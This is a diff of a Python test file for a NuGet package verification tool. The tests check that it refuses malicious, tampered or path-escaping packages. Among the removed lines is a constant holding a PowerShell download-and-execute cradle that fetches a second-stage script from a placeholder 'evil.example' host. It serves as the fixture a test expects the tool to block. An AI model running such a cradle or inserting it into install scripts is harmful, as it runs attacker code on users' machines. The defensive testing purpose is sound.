@@ -4,11 +4,9 @@ lock file is the one nuseal locks (checked against the oracle in test_globalpack
 
 from __future__ import annotations
 
-import io
 import json
 import subprocess
 import sys
-import zipfile
 from pathlib import Path
 
 import pytest
@@ -25,34 +23,11 @@ from nuseal.package import PackageArchive
 from nuseal.trust import RevocationMode
 from nuseal.verify import VerificationPolicy
 
-SHARED = Path(__file__).resolve().parents[3] / "shared"
-CODESIGN = str(SHARED / "trust" / "codesignctl.pem")
-TIMESTAMP = str(SHARED / "trust" / "timestampctl.pem")
+from .gate_support import CODESIGN, CRADLE, SHARED, SOURCE, TIMESTAMP, gate_settings, make_nupkg
+
 NEWTONSOFT = SHARED / "vectors" / "nuget.org" / "Newtonsoft.Json.12.0.3.nupkg"
-SOURCE = "https://feed.example/v3/index.json"
-CRADLE = "iex (New-Object Net.WebClient).DownloadString('http://evil.example/stage2.ps1')\n"
 
 
-def make_nupkg(package_id: str, version: str = "1.0.0", files: dict[str, str] | None = None) -> bytes:
-    nuspec = (
-        '<?xml version="1.0" encoding="utf-8"?><package xmlns="http://schemas.microsoft.com/packaging/2013/05/'
-        f'nuspec.xsd"><metadata><id>{package_id}</id><version>{version}</version><authors>t</authors>'
-        "<description>d</description></metadata></package>"
-    )
-    buf = io.BytesIO()
-    with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED) as z:
-        z.writestr(f"{package_id}.nuspec", nuspec)
-        for name, text in (files or {}).items():
-            z.writestr(name, text)
-    return buf.getvalue()
-
-
-def gate() -> GateSettings:
-    return GateSettings(
-        policy=VerificationPolicy.accept(revocation_mode=RevocationMode.OFFLINE),
-        code_signing_roots=CODESIGN,
-        timestamping_roots=TIMESTAMP,
-    )
 
 
 def snapshot(root: Path) -> dict[str, bytes | None]:
@@ -64,7 +39,7 @@ def test_layout_and_reuse(tmp_path: Path) -> None:
     gpf = GlobalPackagesFolder(tmp_path)
     assert not gpf.is_installed("Newtonsoft.Json", "12.0.3")
     assert gpf.installed_content_hash("Newtonsoft.Json", "12.0.3") is None
-    first = gpf.install(data, package_id="Newtonsoft.Json", version="12.0.3", source=SOURCE, gate=gate())
+    first = gpf.install(data, package_id="Newtonsoft.Json", version="12.0.3", source=SOURCE, gate=gate_settings())
     assert first.installed and first.folder == tmp_path / "newtonsoft.json" / "12.0.3"
     assert (first.folder / "newtonsoft.json.12.0.3.nupkg").read_bytes() == data
     assert (first.folder / "newtonsoft.json.nuspec").is_file()
@@ -74,7 +49,7 @@ def test_layout_and_reuse(tmp_path: Path) -> None:
     assert meta == {"version": 2, "contentHash": content_hash, "source": SOURCE}
     before = snapshot(tmp_path)
     stamp = (first.folder / METADATA_FILE).stat().st_mtime_ns
-    again = gpf.install(data, package_id="Newtonsoft.Json", version="12.0.3", source="elsewhere", gate=gate())
+    again = gpf.install(data, package_id="Newtonsoft.Json", version="12.0.3", source="elsewhere", gate=gate_settings())
     assert not again.installed and again.gate is None and again.content_hash == content_hash
     assert snapshot(tmp_path) == before and (first.folder / METADATA_FILE).stat().st_mtime_ns == stamp
 
@@ -83,20 +58,20 @@ def test_refused_package_leaves_nothing(tmp_path: Path) -> None:
     data = make_nupkg("Evil.Lib", "1.0.0", {"tools/init.ps1": CRADLE})
     gpf = GlobalPackagesFolder(tmp_path / "gpf")
     with pytest.raises(RestoreError) as info:
-        gpf.install(data, package_id="Evil.Lib", version="1.0.0", source=SOURCE, gate=gate())
+        gpf.install(data, package_id="Evil.Lib", version="1.0.0", source=SOURCE, gate=gate_settings())
     assert info.value.rule_id == "NS1110" and info.value.source == SOURCE and info.value.package == "Evil.Lib 1.0.0"
     assert not (tmp_path / "gpf").exists()
 
 
 def test_tampered_package_leaves_nothing_and_keeps_other_packages(tmp_path: Path) -> None:
     gpf = GlobalPackagesFolder(tmp_path)
-    gpf.install(make_nupkg("Good.Lib"), package_id="Good.Lib", version="1.0.0", source=SOURCE, gate=gate())
+    gpf.install(make_nupkg("Good.Lib"), package_id="Good.Lib", version="1.0.0", source=SOURCE, gate=gate_settings())
     before = snapshot(tmp_path)
     data = bytearray(NEWTONSOFT.read_bytes())
     rec = max(PackageArchive.from_bytes(bytes(data)).records, key=lambda r: r.compressed_size)
     data[rec.local_header_offset + 200] ^= 0xFF
     with pytest.raises(RestoreError) as info:
-        gpf.install(bytes(data), package_id="Newtonsoft.Json", version="12.0.3", source=SOURCE, gate=gate())
+        gpf.install(bytes(data), package_id="Newtonsoft.Json", version="12.0.3", source=SOURCE, gate=gate_settings())
     assert info.value.code is not None and info.value.code.value == "NU3008"
     assert snapshot(tmp_path) == before
 
@@ -106,7 +81,9 @@ def test_entry_escaping_the_folder_is_refused(tmp_path: Path, name: str) -> None
     data = make_nupkg("Tricky.Lib", "1.0.0", {name: "x", "ok.txt": "y"})
     root = tmp_path / "gpf"
     with pytest.raises(RestoreError) as info:
-        GlobalPackagesFolder(root).install(data, package_id="Tricky.Lib", version="1.0.0", source=SOURCE, gate=gate())
+        GlobalPackagesFolder(root).install(
+            data, package_id="Tricky.Lib", version="1.0.0", source=SOURCE, gate=gate_settings()
+        )
     assert "outside the package folder" in info.value.message and "Tricky.Lib 1.0.0" in info.value.message
     assert not root.exists() and not list(tmp_path.rglob("escape.txt"))
 
@@ -119,7 +96,7 @@ def test_half_written_folder_is_emptied_first(tmp_path: Path) -> None:
     gpf = GlobalPackagesFolder(tmp_path)
     assert not gpf.is_installed("Good.Lib", "1.0.0")
     data = make_nupkg("Good.Lib", "1.0.0", {"lib/net8.0/Good.dll": "dll"})
-    assert gpf.install(data, package_id="Good.Lib", version="1.0.0", source=SOURCE, gate=gate()).installed
+    assert gpf.install(data, package_id="Good.Lib", version="1.0.0", source=SOURCE, gate=gate_settings()).installed
     assert sorted(snapshot(folder)) == sorted(
         [
             ".nupkg.metadata",
@@ -171,9 +148,9 @@ def test_kill_9_mid_extraction_then_a_clean_install(tmp_path: Path) -> None:
     gpf = GlobalPackagesFolder(root)
     assert not gpf.is_installed("Newtonsoft.Json", "12.0.3")
     data = NEWTONSOFT.read_bytes()
-    assert gpf.install(data, package_id="Newtonsoft.Json", version="12.0.3", source="s", gate=gate()).installed
+    assert gpf.install(data, package_id="Newtonsoft.Json", version="12.0.3", source="s", gate=gate_settings()).installed
     fresh = GlobalPackagesFolder(tmp_path / "fresh")
-    fresh.install(data, package_id="Newtonsoft.Json", version="12.0.3", source="s", gate=gate())
+    fresh.install(data, package_id="Newtonsoft.Json", version="12.0.3", source="s", gate=gate_settings())
     assert snapshot(root) == snapshot(tmp_path / "fresh")
 
 
